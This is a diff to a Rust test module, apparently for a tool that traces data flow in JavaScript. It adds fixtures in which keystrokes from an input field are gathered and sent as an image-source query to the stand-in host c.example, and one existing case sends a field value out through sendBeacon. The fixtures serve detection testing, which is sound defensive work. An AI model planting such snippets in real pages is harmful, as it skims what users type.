@@ -275,6 +275,21 @@ mod tests {
                 "const b=navigator.sendBeacon.bind(navigator);b(u,a.value)",
                 "Field>Request",
             ),
+            (
+                "by what others change later",
+                "var b='';function s(){i.src='//c.example/?'+b}s();a.oninput=function(){b+=a.value}",
+                "Field+Address>Fetched",
+            ),
+            (
+                "by an object that others fill later",
+                "var o={b:''};function s(){i.src='//c.example/?'+o.b}s();a.oninput=function(){o.b+=a.value}",
+                "Field+Address>Fetched",
+            ),
+            (
+                "by a list that others fill later",
+                "var b=[];q(()=>{i.src='//c.example/?'+b.join('')});a.oninput=function(){b.push(a.value)}",
+                "Field+Address>Fetched",
+            ),
             ("without semicolons", "var v = 1\nw = a.value\ni.src = v", ""),
             ("other variable", "var v=a.value;i.src=w", ""),
             ("other function's variable", "function f(){var v=a.value}function g(v){i.src=v}", ""),
